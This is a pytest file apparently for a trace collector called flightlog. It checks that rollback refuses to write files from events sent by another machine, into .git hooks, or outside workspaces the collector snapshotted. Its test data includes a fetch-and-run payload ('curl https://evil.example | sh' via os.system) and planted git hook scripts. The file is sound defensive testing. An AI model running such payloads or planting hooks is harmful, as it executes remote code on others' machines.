"""The collector's rollback route writes only where this collector recorded changes itself.

Events name the paths and the earlier content of a rollback, and an ingest token (an agent on
another machine) may store any event: a planted trace must not write files on the collector's
host when an approver rolls it back.
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import httpx

from flightlog.ledger.blobs import blob_digest
from flightlog.server.auth import TokenStore
from flightlog.snapshot import take_snapshot
from flightlog.snapshot_io import snapshot_roots
from tests.conftest import make_event
from tests.server.conftest import Server

TRACE = "7" * 32
REMOTE = {"x-forwarded-for": "203.0.113.9"}  # the collector trusts this header from loopback only


def _planted(target: str, content: str, **file_op: Any) -> list[dict[str, Any]]:
    # A long output becomes a blob whose digest is that of its bytes: the "earlier content".
    carrier = make_event(2, trace_id=TRACE, payload={"command": "cat", "cwd": "/", "exit_code": 0, "stdout": content})
    delete = make_event(
        3,
        trace_id=TRACE,
        payload={"op": "delete", "file_path": target, "checksum_before": blob_digest(content.encode()), **file_op},
    )
    return [carrier, delete]


def test_a_planted_trace_cannot_write_outside_recorded_workspaces(
    serve: Callable[..., Server], home: Path, tmp_path: Path
) -> None:
    server = serve()
    store = TokenStore(home)
    ingest = {**REMOTE, "authorization": f"Bearer {store.create('ingest', 'agent')[1]}"}
    approve = {**REMOTE, "authorization": f"Bearer {store.create('approve', 'alice')[1]}"}
    content = "#!/bin/sh\necho owned\n" + "#" * 20_000
    target = tmp_path / "victim" / "evil.sh"
    workspace = tmp_path / "ws"
    (workspace / ".git" / "hooks").mkdir(parents=True)
    events = [
        *_planted(str(target), content),
        *_planted(".git/hooks/pre-commit", content, workspace=str(workspace))[1:],
    ]
    events[2]["span_id"] = "4" * 16
    assert httpx.post(server.url + "/api/v1/events", json=events, headers=ingest).status_code == 200
    url = f"{server.url}/api/v1/traces/{TRACE}/rollback"
    answer = httpx.post(url, json={"dry_run": False}, headers=approve)
    assert answer.status_code == 409, answer.text
    assert "sent by another machine" in answer.json()["error"]
    # The same trace stored from this machine: still only where this collector snapshotted.
    local = [{**e, "trace_id": "8" * 32} for e in events]
    assert httpx.post(server.url + "/api/v1/events", json=local).status_code == 200
    answer = httpx.post(f"{server.url}/api/v1/traces/{'8' * 32}/rollback", json={"dry_run": False}, headers=approve)
    assert answer.status_code == 409, answer.text
    error = answer.json()["error"]
    assert "not in a workspace this collector snapshotted itself" in error and "inside .git" in error
    assert not target.exists() and not (workspace / ".git" / "hooks" / "pre-commit").exists()


def test_file_changes_another_machine_sent_are_left_alone_even_inside_a_workspace(
    serve: Callable[..., Server], home: Path, tmp_path: Path
) -> None:
    workspace = tmp_path / "ws"
    workspace.mkdir()
    app = workspace / "app.py"
    app.write_text("print('good')\n")
    notes = workspace / "notes.md"
    notes.write_text("written by the agent\n")
    take_snapshot(workspace, home)  # a workspace this collector recorded itself
    server = serve()
    ingest = {**REMOTE, "authorization": f"Bearer {TokenStore(home).create('ingest', 'agent')[1]}"}
    evil = "import os; os.system('curl https://evil.example | sh')\n" + "#" * 20_000
    # An agent elsewhere claims this trace changed app.py, whose content before was `evil`.
    carrier = make_event(2, trace_id=TRACE, payload={"command": "cat", "cwd": "/", "exit_code": 0, "stdout": evil})
    claim = make_event(
        3,
        trace_id=TRACE,
        payload={
            "op": "patch",
            "file_path": "app.py",
            "workspace": str(workspace),
            "diff": "+print('good')\n",
            "checksum_before": blob_digest(evil.encode()),
            "checksum_after": blob_digest(app.read_bytes()),
        },
    )
    assert httpx.post(server.url + "/api/v1/events", json=[carrier, claim], headers=ingest).status_code == 200
    url = f"{server.url}/api/v1/traces/{TRACE}/rollback"
    alone = httpx.post(url, json={"dry_run": False})
    assert alone.status_code == 409 and "sent by another machine" in alone.json()["error"], alone.text
    # This machine's own record in the same trace is rolled back; the claim is left alone.
    made = make_event(
        7,
        trace_id=TRACE,
        payload={
            "op": "create",
            "file_path": "notes.md",
            "workspace": str(workspace),
            "diff": "+written by the agent\n",
            "checksum_after": blob_digest(notes.read_bytes()),
        },
    )
    assert httpx.post(server.url + "/api/v1/events", json=[made]).status_code == 200
    plan = httpx.post(url, json={"dry_run": True}).json()["result"]
    assert plan["actions"] == ["delete   notes.md"] and plan["left_alone"] == ["app.py"]
    done = httpx.post(url, json={"dry_run": False})
    assert done.status_code == 200, done.text
    assert app.read_text() == "print('good')\n" and not notes.exists()


def test_a_snapshotted_workspace_is_no_way_into_its_git_folder(
    serve: Callable[..., Server], home: Path, tmp_path: Path
) -> None:
    workspace = tmp_path / "new-project"
    (workspace / ".git" / "hooks").mkdir(parents=True)
    take_snapshot(workspace, home)  # an empty new project: its workspace counts all the same
    assert workspace.resolve() in snapshot_roots(home)
    server = serve()
    content = "#!/bin/sh\necho owned\n" + "#" * 20_000
    for folder, path in ((workspace / ".git", "hooks/pre-commit"), (workspace / ".GIT", "hooks/post-merge")):
        events = _planted(path, content, workspace=str(folder))
        events[0]["span_id"], events[1]["span_id"] = "5" * 16, "6" * 16
        assert httpx.post(server.url + "/api/v1/events", json=events).status_code == 200
    answer = httpx.post(f"{server.url}/api/v1/traces/{TRACE}/rollback", json={"dry_run": False})
    assert answer.status_code == 409, answer.text
    assert "hooks/pre-commit: inside .git" in answer.json()["error"]
    assert "hooks/post-merge: inside .git" in answer.json()["error"]
    assert not list((workspace / ".git" / "hooks").iterdir())


def test_the_cli_leaves_another_machines_file_changes_alone_unless_asked(
    serve: Callable[..., Server], home: Path, tmp_path: Path, flightlog: Any
) -> None:
    workspace = tmp_path / "ws"
    workspace.mkdir()
    app = workspace / "app.py"
    app.write_text("print('good')\n")
    server = serve()
    ingest = {**REMOTE, "authorization": f"Bearer {TokenStore(home).create('ingest', 'agent')[1]}"}
    events = _planted(
        "app.py",
        "import os\n" + "#" * 20_000,
        workspace=str(workspace),
    )
    events[1]["payload"] |= {"op": "patch", "diff": "+x\n", "checksum_after": blob_digest(app.read_bytes())}
    assert httpx.post(server.url + "/api/v1/events", json=events, headers=ingest).status_code == 200
    server.stop()
    refused = flightlog("rollback", TRACE)
    assert refused.returncode != 0 and "sent by another machine" in refused.stderr
    assert "left alone: app.py (sent by 203.0.113.9 token:" in refused.stderr
    assert app.read_text() == "print('good')\n"
    asked = flightlog("rollback", TRACE, "--include-remote", "--dry-run")
    assert asked.returncode == 0 and "restore  app.py" in asked.stdout, asked.stderr


def test_the_cli_does_not_revert_commits_another_machine_sent(
    serve: Callable[..., Server], home: Path, tmp_path: Path, flightlog: Any
) -> None:
    server = serve()
    ingest = {**REMOTE, "authorization": f"Bearer {TokenStore(home).create('ingest', 'agent')[1]}"}
    commit = make_event(
        5,
        trace_id=TRACE,
        type="git_op",
        payload={"op": "commit", "repo": str(tmp_path / "victim"), "commit": "c0" * 20},
    )
    assert httpx.post(server.url + "/api/v1/events", json=[commit], headers=ingest).status_code == 200
    server.stop()
    refused = flightlog("rollback", TRACE, "--git", "--dry-run")  # was: "revert c0c0c0c0c0c0 in …/victim"
    assert refused.returncode != 0 and "sent by another machine" in refused.stderr, refused.stdout
    assert "revert" not in refused.stdout
